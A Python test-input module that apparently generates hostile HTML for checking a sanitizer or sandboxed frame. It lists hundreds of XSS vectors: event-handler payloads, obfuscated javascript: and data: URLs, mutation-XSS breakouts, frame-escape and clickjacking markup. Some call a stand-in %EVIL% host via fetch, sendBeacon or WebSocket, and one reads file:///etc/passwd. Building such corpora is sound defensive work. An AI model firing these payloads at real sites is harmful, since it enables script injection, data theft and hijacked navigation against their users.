"""Hostile inputs: HTML that runs scripts, loads something, leaves its frame or touches the page around it.

An input has places for what belongs to it: `%JS%` runs and says so, without quotes, spaces and angle brackets; `%RUN%`
says so in every way there is; `%EVIL%` and `%PICTURES%` are addresses of two servers, and `%CONNECT%` of one that only
counts connections. The policy of the frame allows pictures of `%PICTURES%`.
"""

from dataclasses import dataclass
from itertools import product
from pathlib import Path

from loads import CSS, LOADS, SHEETS


@dataclass(frozen=True)
class Input:
    name: str
    html: str
    # Whether it may take the page around it along, so that it has that page for itself where nothing holds it.
    leaves: bool = False


JS = "%JS%"
RUN = "%RUN%"


def quoted(value):
    return '"' + value.replace("&", "&amp;").replace('"', "&quot;") + '"'


# Elements with events that come by themselves.
EVENTS = [
    "<img src=x: {}=error>", "<img src=%PICTURES%/x.png {}=load>", "<svg {}=load></svg>", "<body {}=load>",
    "<body {}=pageshow>", "<iframe {}=load></iframe>", "<iframe srcdoc=a {}=load></iframe>",
    "<video {}=error><source {}=error src=x:></video>", "<audio src=x: {}=error></audio>",
    "<video src=x: {}=error></video>", "<object data=x: {}=error></object>", "<embed src=%EVIL%/x.svg {}=load>",
    "<object data=%EVIL%/x.svg {}=load></object>", "<link rel=stylesheet href=%EVIL%/style.css {}=load>",
    "<link rel=stylesheet href=x: {}=error>", "<style {}=load>a{}</style>", "<script src=x: {}=error></script>",
    "<script src=%EVIL%/run.js {}=load></script>", "<input type=image src=x: {}=error>",
    "<details open {}=toggle>a</details>", "<marquee {}=start>a</marquee>", "<svg><image href=x: {}=error /></svg>",
    "<svg><image href=%PICTURES%/x.png {}=load /></svg>", "<svg><animate attributeName=x dur=1ms {}=begin /></svg>",
    "<svg><animate attributeName=x dur=1ms {}=end /></svg>", "<svg><set attributeName=x to=1 {}=begin /></svg>",
    "<svg><animateTransform attributeName=transform dur=1ms {}=begin /></svg>",
    "<svg><animateMotion dur=1ms {}=begin /></svg>", "<svg><discard {}=begin /></svg>",
    "<svg><style {}=load>a</style></svg>", "<svg><script href=x: {}=error /></svg>", "<input autofocus {}=focus>",
    "<select autofocus {}=focus></select>", "<textarea autofocus {}=focus></textarea>",
    "<button autofocus {}=focus>a</button>", "<a href=# autofocus {}=focus>a</a>", "<p tabindex=1 autofocus {}=focus>a",
    "<p contenteditable autofocus {}=focus>a", "<p contenteditable autofocus {}=focusin>a",
    "<svg autofocus tabindex=1 {}=focus></svg>", "<summary tabindex=1 autofocus {}=focus>a</summary>",
    "<style>@keyframes k{from{left:0}}</style><p style='animation:k 1ms' {}=animationstart>a",
    "<style>@keyframes k{from{left:0}}</style><p style='animation:k 1ms' {}=animationend>a",
    "<style>@keyframes k{from{left:0}}</style><p style='animation:k 1ms' {}=webkitanimationstart>a",
    "<style>p{opacity:1;transition:opacity 1ms}@starting-style{p{opacity:0}}</style><p {}=transitionend>a",
    "<p style='content-visibility:auto' {}=contentvisibilityautostatechange>a",
    "<video src=%EVIL%/x.mp4 {}=loadstart></video>", "<audio src=%EVIL%/x.mp4 autoplay {}=loadstart></audio>",
    "<video><track default src=%EVIL%/x.vtt {}=error></video>", "<body {}=resize onload=a><p style=height:9in>",
    "<frameset {}=load><frame></frameset>", "<frameset><frame {}=load></frameset>",
    "<picture><source srcset=x:><img src=x: {}=error></picture>", "<math><mtext><img src=x: {}=error></mtext></math>",
    "<table background=x: {}=error><tr><td><img src=x: {}=error>", "<form><input type=image src=x: {}=error></form>",
    "<img srcset=x: {}=error>", "<image src=x: {}=error>", "<isindex type=image src=x: {}=error>",
    "<bgsound src=x: {}=error>", "<applet code=x {}=error></applet>", "<portal src=%EVIL%/page.html {}=load></portal>",
    "<body {}=unhandledrejection><p>", "<body {}=hashchange><meta http-equiv=refresh content='0;url=#a'>",
    "<img loading=eager src=x: {}=error decoding=sync>", "<p popover=manual {}=beforetoggle>a",
    "<dialog open {}=toggle>a", "<svg><foreignObject><img src=x: {}=error></foreignObject></svg>",
    "<template><img src=x: {}=error></template>", "<noscript><img src=x: {}=error></noscript>",
    "<p {}=securitypolicyviolation><img src=%EVIL%/x.png>",
]

# Ways to write an attribute that an element's parser reads alike, or that a filter reads otherwise.
SPELLINGS = [
    "{n}={v}", "/{n}={v}", " {N}={v}", "\n{n}\n=\n{v}", "\t{n}\t={v}", "\f{n}='{v}'", ' {n}="{v}"', " a='>' {n}={v}",
    ' a=">" {n}={v}', " a=\"'\" {n}={v}", " {n}=\"&#9;{v}\"", " {n}='{e}'", " {n}='{h}'", " a=1 {n}={v} {n}=0",
    " \0 {n}={v}", " x/{n}={v}", ' ""{n}={v} {n}={v}', " {n}='void 0;{v}'", " {n}='javascript:{v}'", " a=`>` {n}={v}",
    " <a {n}={v}", " {n}=//\n{v}", " {n}={v}//", " {n}='{v}", ' a="\n{n}=0" {n}={v}',
]
SPELLED = [
    ("img src=x:", "onerror"), ("svg", "onload"), ("body", "onload"), ("details open", "ontoggle"),
]

SCRIPTS = [
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<script >{RUN}</script >", f"<script/x>{RUN}</script/x>",
    f"<script\n>{RUN}</script\n>", f"<script type=text/javascript>{RUN}</script>",
    f"<script type=module>{RUN}</script>", f"<script language=javascript>{RUN}</script>",
    f"<script nomodule>{RUN}</script>", f"<script>{RUN}", f"<script async>{RUN}</script>",
    "<script src=%EVIL%/run.js></script>", "<script src='//%EVILHOST%/run.js'></script>",
    "<script type=module src=%EVIL%/run.js></script>", "<script defer src=%EVIL%/run.js></script>",
    f"<script src=data:text/javascript,{JS}></script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>", f"<script><!--\n{RUN}\n--></script>", f"<svg><script>{RUN}</script></svg>",
    "<svg><script href=%EVIL%/run.js /></svg>", f"<svg><script xlink:href=data:text/javascript,{JS} /></svg>",
    f"<svg><script><![CDATA[{JS}]]></script></svg>", f"<math><script>{RUN}</script></math>",
    f"<select><script>{RUN}</script></select>", f"<table><script>{RUN}</script></table>",
    f"<table><tr><script>{RUN}</script></table>", f"<template><script>{RUN}</script></template>",
    f"<noscript><script>{RUN}</script></noscript>", f"<title><script>{RUN}</script></title>",
    f"</title><script>{RUN}</script>", f"<!--><script>{RUN}</script>-->", f"<!---><script>{RUN}</script>-->",
    f"<!--a--!><script>{RUN}</script>", f"<![CDATA[<script>{RUN}</script>]]>", f"<?a <script>{RUN}</script>?>",
    f"</ <script>{RUN}</script>>", f"<!a><script>{RUN}</script>", f"<svg><desc><script>{RUN}</script></desc></svg>",
    f"<svg><foreignObject><script>{RUN}</script></foreignObject></svg>", f"<p><svg><p><script>{RUN}</script>",
    f"<frameset></frameset><noframes><script>{RUN}</script></noframes>", f"<head><script>{RUN}</script></head>",
    f"</body><script>{RUN}</script>", f"</html><script>{RUN}</script>", f"<plaintext><script>{RUN}</script>",
    f"<object><script>{RUN}</script></object>", f"<button><script>{RUN}</script></button>",
    f"<a><a><script>{RUN}</script></a>", f"<script>setTimeout(() => {{ {RUN} }})</script>",
    f"<script>eval(atob(btoa({RUN!r})))</script>", f"<script>Function({RUN!r})()</script>",
    f"<script>document.write({('<img src=x: onerror=' + JS + '>')!r})</script>",
    f"<script>document.body.innerHTML={('<img src=x: onerror=' + JS + '>')!r}</script>",
    "<script>import('%EVIL%/run.js')</script>", "<script>fetch('%EVIL%/fetched')</script>",
    "<script>navigator.sendBeacon('%EVIL%/beacon')</script>", "<script>new Image().src='%EVIL%/image'</script>",
    "<script>new WebSocket('ws://%EVILHOST%/socket')</script>", "<script>new EventSource('%EVIL%/events')</script>",
    "<script>new Worker('data:text/javascript,fetch(\"%EVIL%/worker\")')</script>",
    "<script>var x=new XMLHttpRequest();x.open('GET','%EVIL%/xhr');x.send()</script>",
    f"<style><script>{RUN}</script></style>", f"<style></style><script>{RUN}</script>",
    f"<script type=importmap>{{\"imports\":{{\"a\":\"%EVIL%/run.js\"}}}}</script><script type=module>"
    f"import 'a'</script>",
    "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"%EVIL%/prefetched\"]}]}</script>",
    "<script type=speculationrules>{\"prerender\":[{\"urls\":[\"%EVIL%/page.html\"]}]}</script>",
]

# Spellings of `javascript:` and its kind, as the value of an attribute, and those that browsers don't run.
ADDRESSES = [
    f"javascript:{JS}", f"JaVaScRiPt:{JS}", f" javascript:{JS}", f"\x01javascript:{JS}", f"\x1fjavascript:{JS}",
    f"java\tscript:{JS}", f"java\nscript:{JS}", f"java\rscript:{JS}", f"javascript\t:{JS}", f"javascript:\n{JS}",
    f"javascript://%0a{JS}", f"javascript://%EVILHOST%/%0a{JS}", f"javascript:/**/{JS}", f"javascript:void {JS}",
    f"javascript:'<script>{JS}</script>'", f"&#106;avascript:{JS}", f"&#x6a;avascript:{JS}", f"&#0000106avascript:{JS}",
    f"java&#9;script:{JS}", f"java&Tab;script:{JS}", f"java&NewLine;script:{JS}", f"javascript&colon;{JS}",
    f"javascript&#58;{JS}", f"&#1;javascript:{JS}", f"java\0script:{JS}",
    f"ｊavascript:{JS}", f"java\u200bscript:{JS}",
    f"javascript\uff1a{JS}", f"\ufeffjavascript:{JS}", f"\xa0javascript:{JS}", f"vbscript:{JS}", f"livescript:{JS}",
    f"view-source:javascript:{JS}", f"feed:javascript:{JS}", f"data:text/html,<script>{JS}</script>",
    f"data:text/html;charset=utf-7,+ADw-script+AD4-{JS}+ADw-/script+AD4-", f"data:,<script>{JS}</script>",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{JS}'/>",
    f"data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{JS}</x:script>",
    f"data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{JS}</script>",
    f"DATA:TEXT/HTML,<body onload={JS}>", f" data:text/html,<img src=x: onerror={JS}>", "%EVIL%/page.html",
    "//%EVILHOST%/page.html", "\\\\%EVILHOST%\\page.html", "/\\%EVILHOST%/page.html", "http:\\\\%EVILHOST%/page.html",
    "ht\ntp://%EVILHOST%/page.html", " %EVIL%/page.html ", "page.html", "./../page.html", "blob:%EVIL%/x",
    "filesystem:%EVIL%/x", "about:srcdoc", "about:blank#%EVIL%", "file:///etc/passwd",
]
PLACES = {
    "iframe": "<iframe src={}></iframe>", "embed": "<embed src={}>", "object": "<object data={}></object>",
    "frame": "<frameset><frame src={}></frameset>", "refresh": "<meta http-equiv=refresh content={refresh}>",
    "image": "<img src={}><p style={style}>a",
    "svg": "<svg><image href={} /><use href={} /><a href={}><text y=9>a</text></a></svg>",
    "base": "<base href={}><img src=x.png><script src=run.js></script>",
}

# Ways out of an element, an attribute or a namespace, and trees that a second reading changes. `{}` runs.
BREAKOUTS = [
    "<svg><p><style><img src=x: onerror={}></style>", "<svg></p><style><a id=\"</style><img src=x: onerror={}>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x: onerror={}&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror={}>",
    "<math><mtext><table><mglyph><style><math><img src=x: onerror={}>",
    "<svg><style><img src=x: onerror={}></style></svg>",
    "<math><annotation-xml encoding=text/html><style><img src=x: onerror={}></style>",
    "<svg><annotation-xml><foreignobject><style><!--</style><p id=\"--><img src=x: onerror={}>\">",
    "<math><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror={} src=x:>\">",
    "<svg><desc><style><img src=x: onerror={}></style></desc></svg>",
    "<svg><title><img src=x: onerror={}></title></svg>", "<math><ms><xmp></ms><img src=x: onerror={}>",
    "<svg><![CDATA[</svg><img src=x: onerror={}>]]>", "<svg><![CDATA[><img src=x: onerror={}>]]></svg>",
    "<svg><style>&lt;/style&gt;&lt;img src=x: onerror={}&gt;</style></svg>",
    "<svg><textarea>&lt;img src=x: onerror={}&gt;</textarea>", "<svg><xmp>&lt;img src=x: onerror={}&gt;</xmp></svg>",
    "<noscript><p title=\"</noscript><img src=x: onerror={}>\">",
    "<noscript><style></noscript><img src=x: onerror={}></style>",
    "<noscript><!--</noscript><img src=x: onerror={}>-->", "<xmp><p title=\"</xmp><img src=x: onerror={}>\">",
    "<noembed><p title=\"</noembed><img src=x: onerror={}>\">",
    "<noframes><p title=\"</noframes><img src=x: onerror={}>\">",
    "<iframe><p title=\"</iframe><img src=x: onerror={}>\">",
    "<textarea><p title=\"</textarea><img src=x: onerror={}>\">",
    "<title><p title=\"</title><img src=x: onerror={}>\">", "<style><p title=\"</style><img src=x: onerror={}>\">",
    "<script><p title=\"</script><img src=x: onerror={}>\">",
    "<plaintext><p title=\"</plaintext><img src=x: onerror={}>\">",
    "<template><style></template><img src=x: onerror={}></style>",
    "<template><p title=\"</template><img src=x: onerror={}>\">",
    "<select><style></select><img src=x: onerror={}></style>",
    "<option><style></option></select><img src=x: onerror={}></style>",
    "<table><style></table><img src=x: onerror={}></style>", "<p title='</style><img src=x: onerror={}>'>b",
    "<img alt='</title><img src=x: onerror={}>' src=x:>", "<a title='-->\"><img src=x: onerror={}>'>b",
    "<p title=`<img src=x: onerror={}>`>", "<p title='&lt;img src=x: onerror={}&gt;'>", "&lt;img src=x: onerror={}&gt;",
    "&amp;lt;img src=x: onerror={}&amp;gt;", "<pre>\n\n<img src=x: onerror={}></pre>",
    "<listing>&lt;img src=x: onerror={}&gt;</listing>", "<!--<img src=\"--><img src=x: onerror={}>\">",
    "<!--[if IE]><img src=x: onerror={}><![endif]-->", "<!--[if !IE]><!--><img src=x: onerror={}><!--<![endif]-->",
    "<comment><img src=\"</comment><img src=x: onerror={}>\">",
    "<!doctype html [<!ENTITY a '<img src=x: onerror={}>'>]>&a;", "<?xml version='1.0'?><?a ><img src=x: onerror={}>?>",
    "<![if !mso]><img src=x: onerror={}><![endif]>", "<o:p><v:shape onload={}></v:shape><img src=x: onerror={}></o:p>",
    "<a href='http://a/'><b><a href='http://b/'><img src=x: onerror={}></a></b></a>",
    "<form><div></form><form><input type=image src=x: onerror={}></div></form>",
    "<select><button><selectedcontent></button><option selected><img src=x: onerror={}>",
    "<select><b><p><img src=x: onerror={}></select>", "<object><p title='</object><img src=x: onerror={}>'>",
    "<p is=x-a onload={}><img src=x: onerror={}>", "<slot onslotchange={}><img src=x: onerror={}></slot>",
    "<div><template shadowrootmode=open><img src=x: onerror={}></template></div>",
    "<svg><template><img src=x: onerror={}></template></svg>",
    "<math><mi><table><mi><style></table><img src=x: onerror={}>",
    "<svg><foreignObject><math><mi><style></style><img src=x: onerror={}>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='{}'/>#x\"></svg>",
    "<svg><a><animate attributeName=href values=javascript:{} /><text y=20>a</text></a></svg>",
    "<svg><set attributeName=onload to={} /></svg>",
    "<svg><animate attributeName=onerror values={} /><image href=x: /></svg>",
    "<svg><iframe srcdoc='<script>{}</script>'></svg>", "<math><img src=x: onerror={}></math>",
    "<x-a><img src=x: onerror={}></x-a>", "<img src=x:`{}` onerror={}>", "<img src=x: onerror\x0b={}>",
    "<img\x0bsrc=x: onerror={}>", "<img/src=x:/onerror={}>", "<\0img src=x: onerror={}>", "<im\0g src=x: onerror={}>",
    "<img src=x: on\0error={}>", "< img src=x: onerror={}>", "<img src=x: onerror={} <p>", "<img src=x:  onerror={}\n",
    "\ufeff<img src=x: onerror={}>", "<a\u2028href=x><img src=x: onerror={}>", "\x1b(J<img src=x: onerror={}>\x1b(B",
    "<meta charset=utf-7>+ADw-img src=x: onerror={}+AD4-",
    "<meta charset=iso-2022-jp>\x1b$@<p title=\x1b(B><img src=x: onerror={}>",
    "<meta charset=utf-16><img src=x: onerror={}>",
    "<meta http-equiv=content-type content='text/html; charset=x-user-defined'><img src=x: onerror={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<iframe srcdoc='&lt;script&gt;{}&lt;/script&gt;'></iframe>",
    "<iframe srcdoc='&amp;lt;img src=x: onerror={}&amp;gt;'></iframe>",
    "<iframe sandbox=allow-scripts srcdoc='<script>{}</script>'></iframe>",
    "<iframe srcdoc='<iframe srcdoc=\"<script>{}</script>\"></iframe>'></iframe>",
    "<iframe sandbox='allow-scripts allow-same-origin allow-top-navigation' srcdoc='<script>{}</script>'></iframe>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "<embed src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{}\"/>'>",
    "<link rel=stylesheet href='data:text/css,*{{background:url(%EVIL%/x.png)}}'><img src=x: onerror={}>",
    "<img name=getElementById src=x: onerror={}>",
    "<form name=body><input name=firstChild></form><img src=x: onerror={}>",
    "<a id=x><a id=x name=y href='javascript:{}'>a</a><img src=x: onerror={}>",
    "<form id=__proto__ onformdata={}><img src=x: onerror={}>", "<p style=\"x:'</style><img src=x: onerror={}>'\">a",
    "<style>a{{content:'</style><img src=x: onerror={}>'}}</style>",
    "<p style='font-family:\"</style><img src=x: onerror={}>\"'>a",
    "<style>/*</style><img src=x: onerror={}>*/</style>",
]

# Ways out of the attributes and texts that a cleaner keeps. They do something where a character isn't escaped.
QUOTATIONS = [
    "<img src=%PICTURES%/x.png alt='\" onload={} a=\"'>", "<img src=x: alt='\" onerror={} a=\"'>",
    "<img src=%PICTURES%/x.png alt=\"' onload={} a='\">", "<img src=%PICTURES%/x.png title='\" onload={} a=\"'>",
    "<p title='\" autofocus tabindex=1 onfocus={} a=\"'>a", "<p aria-label='\" autofocus tabindex=1 onfocus={} a=\"'>a",
    "<p lang='\" autofocus tabindex=1 onfocus={} a=\"'>a",
    "<font face='\" autofocus tabindex=1 onfocus={} a=\"'>a</font>",
    "<img src='%PICTURES%/x.png\" onload={} a=\"'>", "<img src='%PICTURES%/x.png?\" onload={} a=\"'>",
    "<img src='%PICTURES%/x.png#\" onload={} a=\"'>", "<table background='%PICTURES%/x.png\" onload={} a=\"'><tr><td>a",
    "<a href='%EVIL%/a\" autofocus onfocus={} a=\"'>a</a>", "<a href='%EVIL%/a?\" autofocus onfocus={} a=\"'>a</a>",
    "<div data-link='%EVIL%/a\" autofocus onfocus={} a=\"'>a</div>",
    "<a href='mailto:\" autofocus onfocus={} a=\"'>a</a>",
    "<p style='font-family:\"\\22  autofocus tabindex=1 onfocus={} a=\\22\"'>a",
    "<p style=\"font-family:'&quot; autofocus tabindex=1 onfocus={} a='\">a",
    "<p style=\"background:url('%PICTURES%/x.png&quot; autofocus tabindex=1 onfocus={} a=')\">a",
    "<p style=\"background:url('%PICTURES%/x.png\\27);background:url(%EVIL%/y.png);a:(')\">a",
    "<style>p{{font-family:'\" autofocus tabindex=1 onfocus={} a=\"'}}</style><p>a",
    "<p style=\"font-family:'\\27;background:url(%EVIL%/y.png);a:\\27'\">a",
    "&lt;img src=x: onerror={} a<b>b</b>", "<xmp><img src=x: onerror={} a</xmp><b>b</b>",
]

# What leaves the frame, or touches what is around it.
ESCAPES = [
    "<script>top.location='%EVIL%/top'</script>", "<script>parent.location.replace('%EVIL%/top')</script>",
    "<script>top.location.hash='a'</script>", "<script>top.document.body.innerHTML='%ID%'</script>",
    "<script>top.document.title='%ID%'</script>", "<script>top.touched='%ID%'</script>",
    "<script>parent.document.querySelector('h1').remove()</script>",
    "<script>top.history.pushState(1,'','/other')</script>", "<script>history.go(-1);%JS%</script>",
    "<script>open('%EVIL%/opened')</script>", "<script>window.open('%EVIL%/opened','_top')</script>",
    "<script>location='%EVIL%/page.html'</script>", "<script>location='javascript:%JS%'</script>",
    "<script>location.hash='a';location.reload</script><script>top.name='%ID%';%JS%</script>",
    "<form id=f action='%EVIL%/form'></form><script>f.submit()</script>",
    "<form id=f action='%EVIL%/form' method=post target=_top><input name=a></form><script>f.submit()</script>",
    "<form id=f action='%EVIL%/form' target=_parent></form><script>f.requestSubmit()</script>",
    "<form id=f action='javascript:%JS%'></form><script>f.submit()</script>",
    "<a id=a href='%EVIL%/clicked' target=_top>a</a><script>a.click()</script>",
    "<a id=a href='%EVIL%/clicked' target=_blank>a</a><script>a.click()</script>",
    "<a id=a href='%EVIL%/clicked' download>a</a><script>a.click()</script>",
    "<a id=a href='javascript:%JS%'>a</a><script>a.click()</script>",
    "<a id=a href='%EVIL%/x' ping='%EVIL%/ping'>a</a><script>a.click()</script>", "<script>alert(%ID%);%JS%</script>",
    "<script>confirm(%ID%);%JS%</script>", "<script>prompt(%ID%);%JS%</script>",
    "<script>%JS%;onbeforeunload=()=>1</script>", "<script>document.cookie='a=%ID%';%JS%</script>",
    "<script>localStorage.a='%ID%';%JS%</script>", "<script>navigator.serviceWorker.register('/run.js');%JS%</script>",
    "<script>document.documentElement.requestFullscreen();%JS%</script>",
    "<script>Notification.requestPermission();%JS%</script>",
    "<script>navigator.geolocation.getCurrentPosition(a=>a);%JS%</script>",
    "<script>new BroadcastChannel('a').postMessage(1);%JS%</script>",
    "<script>parent.frames[0].location='%EVIL%/sibling'</script>", "<script>top.postMessage({a:1},'*');%JS%</script>",
    "<script>document.domain=document.domain;%JS%</script>", "<script>window.stop();%JS%</script>",
    "<p style='position:fixed;inset:0;z-index:2147483647;background:red'>a</p><script>%JS%</script>",
    "<p style='position:fixed;top:-999px;width:9999px;height:9999px'><a href='%EVIL%/overlay'"
    " target=_top>a</a></p><img src=x: onerror=%JS%>",
    "<p style='position:absolute;margin:-9999px;padding:9999px'>a</p><img src=x: onerror=%JS%>",
    "<dialog open style='position:fixed;inset:0;width:100vw'>a</dialog><img src=x: onerror=%JS%>",
    "<iframe name=_top src='javascript:%JS%'></iframe>",
    "<base target=_top><meta http-equiv=refresh content='0;url=%EVIL%/page.html'>",
    "<meta http-equiv=refresh content='0;url=javascript:%JS%'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>%JS%</script>'>",
    "<meta http-equiv=refresh content='0'>", "<meta http-equiv=refresh content='0;url=?a'><p>a",
]


# What waits for a click, at the upper left. `{}` is an address.
CLICKS = [
    "<a style='font:60px serif' href={}>aaaa</a>", "<a style='font:60px serif' target=_top href={}>aaaa</a>",
    "<a style='font:60px serif' target=_blank rel=opener href={}>aaaa</a>",
    "<a style='font:60px serif' target=_parent ping=%EVIL%/ping href={}>aaaa</a>",
    "<svg width=120 height=60><a href={}><rect width=120 height=60 /></a></svg>",
    "<form action={} target=_top><button style='font:60px serif'>aaaa</button></form>",
]
PRESSED = [
    f"<p style='font:60px serif' onclick={JS}>aaaa</p>", f"<p style='font:60px serif' onmousedown={JS}>aaaa</p>",
    f"<p style='font:60px serif' onpointerover={JS}>aaaa</p>",
    f"<button style='font:60px serif' onclick={JS}>aaaa</button>",
    f"<a style='font:60px serif' href=#a onclick={JS}>aaaa</a>", f"<body onclick={JS} style='font:60px serif'>aaaa",
    "<form><button style='font:60px serif' formaction=javascript:%JS%>aaaa</button></form>",
    "<form><button style='font:60px serif' formaction=%EVIL%/form formtarget=_top formmethod=post>"
    "aaaa</button></form>",
    "<form action=%EVIL%/form method=dialog><input type=image src=%PICTURES%/x.png width=99 height=50></form>",
    "<map name=m><area href=javascript:%JS% shape=default></map><img usemap=#m src=%PICTURES%/x.png"
    " width=99 height=50>",
    "<map name=m><area href=%EVIL%/page.html target=_top shape=default></map><img usemap=#m"
    " src=%PICTURES%/x.png width=99 height=50>",
    f"<details ontoggle={JS}><summary style='font:60px serif'>aaaa</summary>b</details>",
    "<button style='font:60px serif' popovertarget=p>aaaa</button><p popover id=p style='position:fixed;inset:0'>b",
    "<button style='font:60px serif' command=show-modal commandfor=d>aaaa</button><dialog id=d>b</dialog>",
    "<label for=i style='font:60px serif'>aaaa</label><input id=i type=file>",
    "<a style='font:60px serif' href=%EVIL%/x.bin download>aaaa</a>",
    f"<div data-link=javascript:{JS} style='font:60px serif'>aaaa</div>",
    f"<a data-link=javascript:{JS} href=%EVIL%/a style='font:60px serif'>aaaa</a>",
    f"<math href=javascript:{JS}><mtext style='font:60px serif'>aaaa</mtext></math>",
    f"<svg width=120 height=60 onclick={JS}><rect width=120 height=60 /></svg>",
    "<svg width=120 height=60><a><animate attributeName=href values=javascript:%JS% /><rect width=120"
    " height=60 /></a></svg>", "<base href=javascript:/%JS%/><a style='font:60px serif' href=a>aaaa</a>",
    "<base target=_top><a style='font:60px serif' href=%EVIL%/page.html>aaaa</a>",
]


# Connections without a request.
CONNECTIONS = [
    "<link rel=preconnect href=%CONNECT%>", "<link rel=preconnect crossorigin href=%CONNECT%>",
    "<meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href=%CONNECT%>",
    "<p><link rel='preconnect dns-prefetch' href=%CONNECT%>a",
]


def table():
    """All of our own inputs."""
    for number, html in enumerate(EVENTS, 1):
        # Each names its event after the place for it.
        parts = html.split("{}=")
        written = parts[0]
        for part in parts[1:]:
            length = len(part) - len(part.lstrip("abcdefghijklmnopqrstuvwxyz"))
            written += f"on{part[:length]}={JS}{part[length:]}"
        yield Input(f"event {number}", written)
    for (start, event), (number, spelling) in product(SPELLED, enumerate(SPELLINGS, 1)):
        entities = "".join(f"&#{ord(letter)};" for letter in "top.postMessage(") + "%ID%,String.fromCharCode(42))"
        hexadecimal = "top.postMessage&lpar;%ID%&comma;String&period;fromCharCode&#x28;42&#x29&rpar;"
        attribute = spelling.format(n=event, N=event.upper(), v=JS, e=entities, h=hexadecimal)
        space = "" if attribute[0] in " /\n\t\f" else " "
        yield Input(f"spelling {number} of {event}", f"<{start}{space}{attribute}>")
    for number, html in enumerate(SCRIPTS, 1):
        yield Input(f"script {number}", html)
    for (place, html), (number, address) in product(PLACES.items(), enumerate(ADDRESSES, 1)):
        value = address.replace('"', "&quot;")
        written = html.replace("{refresh}", f'"0;url={value}"').replace("{style}", f"\"background:url('{value}')\"")
        yield Input(f"address {number} in {place}", written.replace("{}", f'"{value}"'))
    for kind, cases in [("load", LOADS), ("declaration", CSS), ("sheet", SHEETS)]:
        for (number, text), server in product(enumerate(cases, 1), ("%EVIL%", "%PICTURES%")):
            text = text.replace("{}", server).replace("{{", "{").replace("}}", "}")
            if kind == "declaration":
                text = f"<p style={quoted(text)}>a"
            elif kind == "sheet":
                text = f"<style>{text}</style><p>a<b>b</b><ul><li>c</ul>"
            yield Input(f"{kind} {number} of {server.strip('%').lower()}", text)
    for number, html in enumerate(BREAKOUTS + QUOTATIONS, 1):
        yield Input(f"breakout {number}", html.replace("{}", JS).replace("{{", "{").replace("}}", "}"))
    for number, html in enumerate(ESCAPES, 1):
        yield Input(f"escape {number}", html, leaves=True)
    for number, html in enumerate(CONNECTIONS, 1):
        yield Input(f"connection {number}", html, leaves=True)


def clicked():
    """All of our own inputs that wait for a click."""
    for (number, html), (other, address) in product(enumerate(CLICKS, 1), enumerate(ADDRESSES, 1)):
        value = address.replace('"', "&quot;")
        yield Input(f"click {number} with address {other}", html.replace("{}", f'"{value}"'), leaves=True)
    for number, html in enumerate(PRESSED, 1):
        yield Input(f"press {number}", html, leaves=True)


# What follows an input of html5lib-tests, so that whatever the input has opened has a script in it.
_TAIL = f"<script>{JS}</script><img src=x: onerror={JS}><svg onload={JS}></svg>"
_ENDS = "'\"--></script></style></title></textarea></noscript></noframes></noembed></xmp></iframe></select></template>"


def corpus():
    """The trees of html5lib-tests, as they are and with scripts after them. There are none if they aren't there."""
    beside = [folder / "shared/corpora/html5lib-tests/tree-construction" for folder in Path(__file__).resolve().parents]
    folder = next((folder for folder in beside if folder.is_dir()), None)
    for file in sorted(folder.rglob("*.dat")) if folder else []:
        parts = ("\n" + file.read_bytes().decode(errors="replace")).split("\n#data\n")[1:]
        for number, part in enumerate(parts, 1):
            html = part.split("\n#errors")[0]
            name = f"{file.relative_to(folder)} {number}"
            yield Input(name, html)
            yield Input(name + " with a script", html + _TAIL + _ENDS + _TAIL)
